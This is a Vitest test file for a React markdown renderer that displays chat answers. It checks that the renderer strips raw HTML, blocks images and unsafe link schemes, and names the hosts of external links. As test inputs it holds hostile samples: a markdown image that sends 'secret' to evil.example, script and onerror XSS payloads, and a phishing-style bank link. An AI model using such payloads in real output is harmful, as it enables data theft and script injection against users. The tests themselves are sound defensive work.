import { createInstance } from 'i18next'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { I18nextProvider } from 'react-i18next'
import { describe, expect, it } from 'vitest'
import { AnswerText } from './markdown.tsx'

const i18n = createInstance({ lng: 'en', resources: { en: {} }, initAsync: false })
await i18n.init()

const html = (text: string, growing = false) =>
  renderToStaticMarkup(createElement(I18nextProvider, { i18n }, createElement(AnswerText, { text, growing })))

describe('the text of an answer', () => {
  it('loads nothing from anywhere', () => {
    const shown = html(
      '![a poster](https://evil.example/?q=secret)\n\n![b][ref]\n\n[ref]: https://evil.example/x.png',
    )
    expect(shown).not.toMatch(/<img|<iframe|src=/)
    expect(shown).toContain('a poster')
  })

  it('shows the tasks of a list as marks with a name, not as fields', () => {
    const shown = html('- [x] seen\n- [ ] later')
    expect(shown).not.toContain('<input')
    expect(shown).toMatch(/chat\.task\.done.*seen.*chat\.task\.open.*later/s)
  })

  it('has no raw HTML', () => {
    const shown = html(
      '<script>alert(1)</script><img src=x onerror=alert(1)>\n\nafter <b onclick="x">bold</b>',
    )
    expect(shown).not.toMatch(/<script|<img|<b |onerror|onclick/)
    expect(shown).toContain('after')
  })

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '/api/requests',
    '//evil.example',
    'mailto:a@b.c',
  ])('does not link to %s', address => {
    expect(html(`[look](${address})`)).not.toContain('<a')
    expect(html(`<${address}>`)).not.toContain('<a')
  })

  it('links to web pages in a new tab, and names their host', () => {
    const shown = html('[Your bank](https://evil.example/login) and https://example.org/a')
    expect(shown).toContain('href="https://evil.example/login" target="_blank" rel="noreferrer"')
    expect(shown).toContain('(evil.example)')
    expect(shown).toContain('>https://example.org/a</a>')
    expect(shown).not.toContain('(example.org)')
  })

  it('shows tables and code', () => {
    expect(html('| a | b |\n|---|---|\n| 1 | 2 |')).toMatch(/<table.*<td/)
    expect(html('```\n<b>\n```')).toContain('&lt;b&gt;')
  })
})
